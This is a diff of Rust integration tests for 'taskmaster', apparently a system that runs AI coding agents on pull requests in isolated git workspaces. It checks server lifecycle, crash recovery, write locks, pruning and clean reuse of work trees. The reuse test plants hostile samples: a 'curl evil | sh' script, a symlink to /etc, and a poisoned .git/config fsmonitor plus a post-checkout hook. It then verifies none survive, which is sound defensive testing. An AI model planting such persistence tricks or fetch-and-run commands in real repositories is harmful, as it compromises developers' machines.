@@ -961,10 +961,13 @@ steps:
     // Nowhere else: not in the service's directory, not in the data directory.
     let cwd = std::env::current_dir().unwrap();
     assert!(!cwd.join("agent-note.txt").exists());
+    // The run's own tree is parked for the repository's next run (which
+    // cleans it first, see the reuse test); nothing else has the file.
+    let parked = data.path().join("pool").join("7201");
     let hits = files_containing(data.path(), &["written by the agent".to_owned()]);
     assert!(
-        hits.is_empty(),
-        "the run's workspace is gone, and nothing else has it: {hits:?}"
+        hits.iter().all(|h| h.starts_with(&parked)),
+        "the file is somewhere else than the run's own parked tree: {hits:?}"
     );
     t.stop().await;
 }
@@ -975,4 +978,426 @@ fn taskmaster_test_find(program: &str) -> Option<PathBuf> {
             .map(|dir| dir.join(program))
             .find(|p| p.is_file())
     })
+}
+
+/// `target/debug/examples/agentapi_standin` (cargo builds examples with the tests).
+fn standin_program() -> PathBuf {
+    let exe = std::env::current_exe().unwrap();
+    let dir = exe.parent().unwrap().parent().unwrap();
+    let program = dir.join("examples").join("agentapi_standin");
+    assert!(
+        program.is_file(),
+        "{} is missing: cargo test builds it (cargo build --examples)",
+        program.display()
+    );
+    program
+}
+
+fn field<'a>(text: &'a str, key: &str) -> &'a str {
+    text.split_whitespace()
+        .find_map(|w| w.strip_prefix(key))
+        .unwrap_or_else(|| panic!("no `{key}` in {text:?}"))
+}
+
+#[tokio::test]
+async fn a_managed_agentapi_server_per_run_works_in_its_workspace_and_stops_with_it() {
+    use taskmaster::agent::agentapi::AgentApiSettings;
+    use taskmaster::agent::managed::{ManagedAgentApi, ManagedSettings};
+    let server = GitServer::start(Some(TOKEN)).await;
+    let a = world(&server, "acme/one");
+    let b = world(&server, "acme/two");
+    let data = tempfile::tempdir().unwrap();
+    let (ws, _) = workspaces(data.path(), &server);
+    let mut api = AgentApiSettings::new("claude-code", "http://unused.invalid");
+    api.poll_interval = Duration::from_millis(20);
+    let mut settings = ManagedSettings::new(
+        api,
+        vec![
+            standin_program().display().to_string(),
+            "server".into(),
+            "--type=claude".into(),
+            "--".into(),
+            "claude".into(),
+        ],
+    );
+    settings.sandbox = true;
+    let managed = Arc::new(ManagedAgentApi::new(settings));
+    let set = workflows(
+        &[r#"
+name: converse
+on: { pull_request: {} }
+steps:
+  first: { agent: claude-code, prompt: "first question" }
+  second: { agent: claude-code, needs: first, prompt: "second question" }
+"#],
+        &["claude-code"],
+    );
+    let agents = AgentMap::new().with(managed.clone());
+    let t = TestEngine::start(set, agents, config_with(ws.clone())).await;
+    let ra = start_pr_run(
+        &t,
+        "converse",
+        &pr_payload("acme/one", 7301, 1, &a.pr1, &a.base),
+    )
+    .await;
+    let rb = start_pr_run(
+        &t,
+        "converse",
+        &pr_payload("acme/two", 7302, 1, &b.pr1, &b.base),
+    )
+    .await;
+    let sa = t.wait_run(ra, Duration::from_secs(60)).await;
+    let sb = t.wait_run(rb, Duration::from_secs(60)).await;
+    assert_eq!(sa.run.state, RunState::Succeeded, "{sa:#?}");
+    assert_eq!(sb.run.state, RunState::Succeeded, "{sb:#?}");
+    let mut ports = Vec::new();
+    for (run_id, snap) in [(ra, &sa), (rb, &sb)] {
+        let first = output_of(snap, "first");
+        let second = output_of(snap, "second");
+        // Each run's server was started in that run's workspace...
+        assert_eq!(
+            field(&first, "cwd="),
+            ws.workspace_path(run_id).display().to_string(),
+            "{first}"
+        );
+        // ...and both steps of the run talked to the same server (one conversation).
+        assert_eq!(field(&first, "port="), field(&second, "port="));
+        assert!(second.contains("second question"), "{second}");
+        ports.push(field(&first, "port=").parse::<u16>().unwrap());
+    }
+    assert_ne!(ports[0], ports[1], "one server per run");
+    // The runs ended: their servers stop (wait for the positive signal: the port closes).
+    for port in ports {
+        let deadline = std::time::Instant::now() + Duration::from_secs(10);
+        while tokio::net::TcpStream::connect(("127.0.0.1", port))
+            .await
+            .is_ok()
+        {
+            assert!(
+                std::time::Instant::now() < deadline,
+                "the server on port {port} outlived its run"
+            );
+            tokio::time::sleep(Duration::from_millis(20)).await;
+        }
+    }
+    assert!(managed.port_of(&ra.to_string()).await.is_none());
+    t.stop().await;
+}
+
+/// `taskmaster run` killed (SIGKILL) while it fetches the run's commit: run
+/// again with the same delivery, the run carries on from the same record,
+/// its workspace is made whole, and no half-made checkout is left.
+#[tokio::test]
+async fn a_sigkill_while_fetching_leaves_nothing_half_made() {
+    use std::process::{Command, Stdio};
+    let server = GitServer::start(None).await;
+    let w = world(&server, "acme/killed");
+    let dir = tempfile::tempdir().unwrap();
+    let wf_dir = dir.path().join("workflows");
+    std::fs::create_dir_all(&wf_dir).unwrap();
+    std::fs::write(
+        wf_dir.join("killed.yml"),
+        r#"
+name: killed
+on: { pull_request: {} }
+steps:
+  look: { agent: command, with: { run: [cat, marker.txt] } }
+"#,
+    )
+    .unwrap();
+    let payload = dir.path().join("event.json");
+    std::fs::write(
+        &payload,
+        pr_payload("acme/killed", 7401, 1, &w.pr1, &w.base),
+    )
+    .unwrap();
+    let data = dir.path().join("data");
+    let (db, git_url) = (dir.path().join("t.db"), server.base_url.clone());
+    let run = move || {
+        let mut c = Command::new(env!("CARGO_BIN_EXE_taskmaster"));
+        c.args(["run", "killed", "--delivery", "killed-1", "--event"])
+            .arg(&payload)
+            .arg("--workflows")
+            .arg(&wf_dir)
+            .arg("--database-url")
+            .arg(format!("sqlite://{}", db.display()))
+            .arg("--data-dir")
+            .arg(&data)
+            .args([
+                "--git-url",
+                &git_url,
+                "--min-free-disk-mb",
+                "0",
+                "--log",
+                "error",
+            ])
+            .env_remove("GITHUB_APP_ID")
+            .env_remove("GITHUB_PRIVATE_KEY")
+            .env_remove("GITHUB_PRIVATE_KEY_PATH")
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        c
+    };
+    let data = dir.path().join("data");
+    // The server holds its pack back; kill taskmaster once git is waiting for it.
+    server.set_pack_delay(Duration::from_secs(30));
+    let mut first = run().spawn().unwrap();
+    let deadline = std::time::Instant::now() + Duration::from_secs(30);
+    while server.packs_started() == 0 {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the fetch never started"
+        );
+        assert!(
+            first.try_wait().unwrap().is_none(),
+            "taskmaster exited early"
+        );
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+    // SAFETY: signalling our own child.
+    unsafe { libc::kill(first.id() as i32, libc::SIGKILL) };
+    first.wait().unwrap();
+    assert!(
+        !data
+            .join("workspaces")
+            .join("1")
+            .join("marker.txt")
+            .exists(),
+        "no workspace was complete when the process died"
+    );
+    // Run again: the same run carries on and succeeds on the PR's head.
+    server.set_pack_delay(Duration::ZERO);
+    let again = run.clone();
+    let out = tokio::task::spawn_blocking(move || again().output().unwrap())
+        .await
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "{stdout}\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        stdout.contains("already exists for delivery killed-1: carrying on"),
+        "{stdout}"
+    );
+    let store = taskmaster::store::SqliteStore::open(dir.path().join("t.db").to_str().unwrap())
+        .await
+        .unwrap();
+    use taskmaster::store::RunStore;
+    let snap = store.run(1).await.unwrap().unwrap();
+    assert_eq!(snap.run.state, RunState::Succeeded);
+    assert_eq!(output_of(&snap, "look"), "pr head of acme/killed\n");
+    assert_eq!(snap.run.checkout_sha.as_deref(), Some(w.pr1.as_str()));
+    // Nothing half-made is left, and the ended run's workspace is gone.
+    let left: Vec<String> = std::fs::read_dir(data.join("workspaces"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert!(left.is_empty(), "left behind: {left:?}");
+}
+
+/// An agent that holds each attempt for a while and records when it ran.
+#[derive(Debug, Default)]
+struct Sleeper {
+    spans: Mutex<Vec<(String, std::time::Instant, std::time::Instant)>>,
+}
+
+#[async_trait]
+impl Agent for Sleeper {
+    fn name(&self) -> &str {
+        "sleeper"
+    }
+    fn kind(&self) -> AgentKind {
+        AgentKind::Cli
+    }
+    async fn run(&self, attempt: AttemptRequest) -> AttemptOutcome {
+        let start = std::time::Instant::now();
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        self.spans.lock().unwrap().push((
+            attempt.key.step.clone(),
+            start,
+            std::time::Instant::now(),
+        ));
+        AttemptOutcome {
+            failure: None,
+            output: Output::from_text("ok", &Default::default(), 100),
+            duration: start.elapsed(),
+            usage: Usage::default(),
+            retry_after: None,
+            web_url: None,
+        }
+    }
+    async fn health(&self) -> Health {
+        Health {
+            reachable: true,
+            latency: Duration::ZERO,
+            detail: String::new(),
+        }
+    }
+}
+
+#[tokio::test]
+async fn steps_that_change_files_never_share_the_workspace_and_readers_may() {
+    let server = GitServer::start(Some(TOKEN)).await;
+    let w = world(&server, "acme/locks");
+    let data = tempfile::tempdir().unwrap();
+    let (ws, _) = workspaces(data.path(), &server);
+    let set = workflows(
+        &[r#"
+name: locks
+on: { pull_request: {} }
+steps:
+  write_a: { agent: sleeper, changes: true, prompt: a }
+  write_b: { agent: sleeper, changes: true, prompt: b }
+  read_c: { agent: sleeper, needs: [write_a, write_b], prompt: c }
+  read_d: { agent: sleeper, needs: [write_a, write_b], prompt: d }
+"#],
+        &["sleeper"],
+    );
+    let sleeper = Arc::new(Sleeper::default());
+    let agents = AgentMap::new().with(sleeper.clone());
+    let t = TestEngine::start(set, agents, config_with(ws.clone())).await;
+    let run_id = start_pr_run(
+        &t,
+        "locks",
+        &pr_payload("acme/locks", 7501, 1, &w.pr1, &w.base),
+    )
+    .await;
+    let snap = t.wait_run(run_id, Duration::from_secs(60)).await;
+    assert_eq!(snap.run.state, RunState::Succeeded);
+    let spans = sleeper.spans.lock().unwrap().clone();
+    let span = |id: &str| spans.iter().find(|s| s.0 == id).cloned().unwrap();
+    let (a, b) = (span("write_a"), span("write_b"));
+    assert!(
+        a.2 <= b.1 || b.2 <= a.1,
+        "the two writers overlapped: {a:?} {b:?}"
+    );
+    let (c, d) = (span("read_c"), span("read_d"));
+    assert!(
+        c.1 < d.2 && d.1 < c.2,
+        "the two readers ran one after the other: {c:?} {d:?}"
+    );
+    t.stop().await;
+}
+
+#[tokio::test]
+async fn unused_mirrors_are_pruned_and_pinned_ones_kept() {
+    let server = GitServer::start(Some(TOKEN)).await;
+    let w = world(&server, "acme/prune");
+    let data = tempfile::tempdir().unwrap();
+    let mut s = settings(data.path(), &server);
+    s.mirror_ttl = Duration::ZERO;
+    let ws = Workspaces::new(s, Arc::new(StaticTokens::default())).unwrap();
+    let made = ws
+        .ensure(&pr_request(60, 7601, "acme/prune", 1, &w.pr1))
+        .await
+        .unwrap();
+    let active: HashSet<i64> = [60].into_iter().collect();
+    assert_eq!(
+        ws.sweep(&active).await,
+        (0, 0),
+        "a mirror a workspace borrows from stays"
+    );
+    assert!(made.mirror.is_dir());
+    let (workspaces, mirrors) = ws.sweep(&HashSet::new()).await;
+    assert_eq!((workspaces, mirrors), (1, 1));
+    assert!(!made.mirror.exists() && !made.path.exists());
+}
+
+/// A finished run's work tree is reused for the next run of the repository,
+/// and nothing its agent did survives: not a tracked file changed behind a
+/// restored modification time, not a planted or ignored file, not a symlink
+/// out of the tree, not a poisoned `.git/config` or hook.
+#[tokio::test]
+async fn a_reused_work_tree_keeps_nothing_of_the_agent_that_had_it() {
+    let server = GitServer::start(Some(TOKEN)).await;
+    let w = world(&server, "acme/reuse");
+    w.repo.checkout(&w.pr1);
+    let next = w.repo.commit(
+        &[(".gitignore", "target/\n"), ("src/new.rs", "fn new() {}\n")],
+        "next push",
+    );
+    w.repo.push(&next, "refs/pull/1/head");
+    let data = tempfile::tempdir().unwrap();
+    let (ws, _) = workspaces(data.path(), &server);
+    let first = ws
+        .ensure(&pr_request(70, 7701, "acme/reuse", 1, &w.pr1))
+        .await
+        .unwrap();
+    // What an agent might leave behind.
+    let p = &first.path;
+    let marker = p.join("marker.txt");
+    let stamp = std::fs::metadata(&marker).unwrap().modified().unwrap();
+    let original = std::fs::read_to_string(&marker).unwrap();
+    let forged: String = original
+        .chars()
+        .map(|c| if c == 'p' { 'P' } else { c })
+        .collect();
+    assert_eq!(forged.len(), original.len());
+    std::fs::write(&marker, &forged).unwrap();
+    std::fs::File::options()
+        .write(true)
+        .open(&marker)
+        .unwrap()
+        .set_modified(stamp)
+        .unwrap();
+    std::fs::write(p.join("planted.sh"), "curl evil | sh").unwrap();
+    std::fs::create_dir_all(p.join("target")).unwrap();
+    std::fs::write(p.join("target/cache.bin"), "poisoned build cache").unwrap();
+    std::fs::remove_file(p.join("README.md")).unwrap();
+    std::os::unix::fs::symlink("/etc", p.join("README.md")).unwrap();
+    let pwned = data.path().join("pwned");
+    std::fs::write(
+        p.join(".git/config"),
+        format!("[core]\n\tfsmonitor = touch {}\n", pwned.display()),
+    )
+    .unwrap();
+    std::fs::write(
+        p.join(".git/hooks/post-checkout"),
+        format!("#!/bin/sh\ntouch {}\n", pwned.display()),
+    )
+    .unwrap();
+    ws.finish(70, false).await;
+    assert!(
+        !first.path.exists(),
+        "the run's workspace is gone from its place"
+    );
+
+    let second = ws
+        .ensure(&pr_request(71, 7701, "acme/reuse", 1, &next))
+        .await
+        .unwrap();
+    assert!(
+        second.fetched.contains("reused a parked work tree"),
+        "{}",
+        second.fetched
+    );
+    let q = &second.path;
+    assert_eq!(git(q, &["rev-parse", "HEAD"]), next);
+    assert_eq!(
+        git(q, &["status", "--porcelain", "--ignored"]),
+        "",
+        "the tree is exactly the commit"
+    );
+    assert_eq!(
+        std::fs::read_to_string(q.join("marker.txt")).unwrap(),
+        original
+    );
+    assert!(!q.join("planted.sh").exists() && !q.join("target").exists());
+    assert!(
+        std::fs::symlink_metadata(q.join("README.md"))
+            .unwrap()
+            .is_file()
+    );
+    assert_eq!(
+        std::fs::read_to_string(q.join("src/new.rs")).unwrap(),
+        "fn new() {}\n"
+    );
+    assert!(!pwned.exists(), "a program named by the agent's .git ran");
+    assert!(
+        !std::fs::read_to_string(q.join(".git/config"))
+            .unwrap()
+            .contains("fsmonitor")
+    );
 }
